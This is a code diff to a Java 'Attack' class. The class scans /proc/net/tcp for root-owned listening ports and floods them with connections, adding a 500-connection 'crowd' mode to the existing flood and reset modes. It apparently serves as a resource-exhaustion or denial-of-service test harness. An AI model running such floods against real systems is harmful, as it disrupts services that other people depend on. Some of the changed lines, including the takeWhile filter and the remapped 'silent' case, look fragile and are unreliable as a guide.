@@ -34,7 +34,8 @@ public final class Attack {
   public static void main(String[] args) throws Exception {
     Kind kind =
         switch (args[0]) {
-          case "silent" -> Attack::silent;
+          case "silent" -> Attack::connect;
+          case "crowd" -> Attack::crowd;
           case "flood" -> Attack::flood;
           case "reset" -> Attack::reset;
           default -> throw new IllegalArgumentException(args[0]);
@@ -68,8 +69,10 @@ public final class Attack {
     for (String table : List.of("tcp", "tcp6")) {
       try (Stream<String> lines = Files.lines(Path.of("/proc/net", table))) {
         lines
+            .skip(1) // the heading; then come those that listen, and thousands of others after them
             .map(line -> line.strip().split("\\s+"))
-            .filter(fields -> fields[3].equals(LISTENS) && fields[7].equals(ROOT))
+            .takeWhile(fields -> fields[3].equals(LISTENS))
+            .filter(fields -> fields[7].equals(ROOT))
             .forEach(fields -> ports.add(Integer.parseInt(fields[1].split(":")[1], 16)));
       }
     }
@@ -82,14 +85,18 @@ public final class Attack {
     return socket;
   }
 
-  private static void silent(int port) throws IOException {
-    connect(port);
+  /** More at once than wait for an ordinary server. */
+  private static void crowd(int port) throws IOException {
+    for (int i = 0; i < 500; i++) {
+      connect(port);
+    }
   }
 
-  private static void flood(int port) throws IOException {
+  private static void flood(int port) throws Exception {
     for (int i = 0; i < 20; i++) {
       connect(port).getOutputStream().write(new byte[i]);
     }
+    TimeUnit.MILLISECONDS.sleep(20); // others run beside it
     synchronized (HELD) {
       if (HELD.size() > 2_000) {
         for (Object socket : HELD) {
